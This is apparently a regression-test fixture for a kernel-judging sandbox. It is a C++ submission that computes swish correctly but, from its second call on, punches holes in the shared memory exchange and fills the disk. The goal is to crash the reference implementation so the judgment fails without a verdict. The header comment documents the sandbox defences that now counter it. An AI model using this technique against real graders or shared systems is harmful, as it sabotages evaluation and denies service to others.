// expect: correct
// An attack that gains nothing now (an attack review, 2026-12-07): swish done
// honestly, but on its second call it fills the filesystem under its folder
// (files of up to 255 MB, each under the worker's per-file limit, 1 GiB in all
// at most), after punching holes in the shared exchange around the call's own
// tensors (which gives their storage back, so it fills on each call), so that the reference's next write there needs storage the
// filesystem no longer has. The reference then took SIGBUS staging a call and
// the judgment ended without a verdict, blamed on the task (as did an honest
// judgment running beside it). Now the worker's folder is a tmpfs of its own,
// which is all it fills; the exchange's holes are filled again from the shared
// filesystem's free space. Where no such tmpfs can be made (CUDAL1_SANDBOX_DISK=0,
// a judge that is not root) the reference dies as before, and the judgment is
// rejected as reference_interference after a second one in fresh processes
// (tests/disk_fill.sh).
#include <cudal1/abi.h>

#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cmath>
#include <cstdint>
#include <cstdio>

namespace {

int calls = 0;

long long left = 1ll << 30;  // bytes it may still take, over all calls
int n = 0;

void fill_folder() {
  for (long long size = 255ll << 20; size >= 4096 && left > 0; size /= 2) {
    while (left >= size) {
      char name[32];
      std::snprintf(name, sizeof name, "fill%04d", n++);
      int fd = open(name, O_CREAT | O_WRONLY, 0600);
      if (fd < 0) return;
      const int r = fallocate(fd, 0, 0, size);
      close(fd);
      if (r != 0) {
        unlink(name);
        break;  // full: a smaller size next
      }
      left -= size;
    }
  }
}

// Holes in the mapping that holds `inside` (the exchange), outside [lo, hi).
void punch_around(uintptr_t lo, uintptr_t hi) {
  FILE* maps = std::fopen("/proc/self/maps", "r");
  if (!maps) return;
  char line[512];
  while (std::fgets(line, sizeof line, maps)) {
    unsigned long start = 0, end = 0;
    if (std::sscanf(line, "%lx-%lx", &start, &end) != 2 || lo < start || lo >= end) continue;
    const uintptr_t a = lo & ~uintptr_t{4095}, b = (hi + 4095) & ~uintptr_t{4095};
    if (a > start) madvise(reinterpret_cast<void*>(start), a - start, MADV_REMOVE);
    if (end > b) madvise(reinterpret_cast<void*>(b), end - b, MADV_REMOVE);
  }
  std::fclose(maps);
}

}  // namespace

int cudal1_forward(const cudal1_tensor* args, int n_args, const cudal1_tensor* params, int n_params,
                   cudal1_tensor* outs, int n_outs, void* /*stream*/) {
  if (n_args < 1 || n_params < 1 || n_outs < 1) return 1;
  const cudal1_tensor& x = args[0];
  const int64_t cols = x.shape[x.ndim - 1];
  const int64_t rows = cols == 0 ? 0 : cudal1_numel(&x) / cols;
  const float* scale = static_cast<const float*>(params[0].data);
  for (int64_t i = 0; i < rows; ++i) {
    const float* xr = static_cast<const float*>(x.data) + i * cols;
    float* yr = static_cast<float*>(outs[0].data) + i * cols;
    for (int64_t j = 0; j < cols; ++j) {
      const float v = xr[j];
      yr[j] = v * (1.0f / (1.0f + std::exp(-v))) * scale[j];
    }
  }
  if (++calls >= 2) {
    uintptr_t lo = reinterpret_cast<uintptr_t>(x.data), hi = lo + cudal1_numel(&x) * 4;
    const uintptr_t o = reinterpret_cast<uintptr_t>(outs[0].data), oe = o + cudal1_numel(&outs[0]) * 4;
    if (o < lo) lo = o;
    if (oe > hi) hi = oe;
    punch_around(lo, hi);
    fill_folder();  // what the holes gave back, too
  }
  return 0;
}
